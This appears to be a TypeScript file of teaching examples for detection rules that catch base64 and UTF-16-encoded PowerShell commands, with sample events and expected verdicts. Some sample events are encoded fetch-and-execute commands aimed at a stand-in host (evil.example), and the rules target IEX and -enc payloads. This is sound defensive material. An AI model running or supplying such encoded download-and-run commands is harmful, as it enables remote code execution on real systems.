/** Encodings: base64, base64offset, and the UTF-16 forms under them. */
import { exampleRule, PROCESS, type Example } from '../example.ts'

export const ENCODINGS: Example[] = [
  {
    id: 'base64offset',
    title: 'base64offset|contains: a word inside base64',
    topic: 'Encodings',
    explain:
      'Base64 of the same word looks different depending on where it starts in the encoded text. base64offset tries the three offsets, so "http" is found inside a longer encoded command.',
    rule: exampleRule(
      50,
      'Base64 with offsets',
      PROCESS,
      String.raw`
selection:
    CommandLine|base64offset|contains: 'http://'
condition: selection`,
    ),
    events: [
      { CommandLine: 'powershell -c aWV4IChpd3IgaHR0cDovL2V2aWwuZXhhbXBsZS9hLnBzMSk=' },
      { CommandLine: 'powershell -c aHR0cDovL2V2aWwuZXhhbXBsZQ==' },
      { CommandLine: 'powershell -c aWV4IChpd3IgZnRwOi8vZXZpbC5leGFtcGxlKQ==' },
    ],
    verdicts: [true, true, false],
  },
  {
    id: 'base64',
    title: 'base64: the whole value, encoded once',
    topic: 'Encodings',
    explain:
      'base64 encodes the value as it is, padding included. Inside a longer encoded command the same words encode differently at the end, so the second event is missed: that is what base64offset is for.',
    rule: exampleRule(
      51,
      'Base64',
      PROCESS,
      String.raw`
selection:
    CommandLine|base64|contains: 'Invoke-Expression'
condition: selection`,
    ),
    events: [
      { CommandLine: 'powershell -c SW52b2tlLUV4cHJlc3Npb24=' },
      { CommandLine: 'powershell -c SW52b2tlLUV4cHJlc3Npb24gLUNvbW1hbmQ=' },
    ],
    verdicts: [true, false],
  },
  {
    id: 'wide-base64offset',
    title: 'wide|base64offset: PowerShell -EncodedCommand',
    topic: 'Encodings',
    explain:
      'PowerShell encodes commands as UTF-16LE before base64. wide turns the value into UTF-16LE bytes first, then base64offset encodes those: the classic way to catch -enc payloads.',
    rule: exampleRule(
      52,
      'UTF-16 then base64',
      PROCESS,
      String.raw`
selection:
    CommandLine|wide|base64offset|contains: 'IEX'
condition: selection`,
    ),
    events: [
      { CommandLine: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=' },
      { CommandLine: 'powershell -enc SQBFAFgA' },
      { CommandLine: 'powershell -enc SUVYIChOZXctT2JqZWN0KQ==' },
    ],
    verdicts: [true, true, false],
  },
]
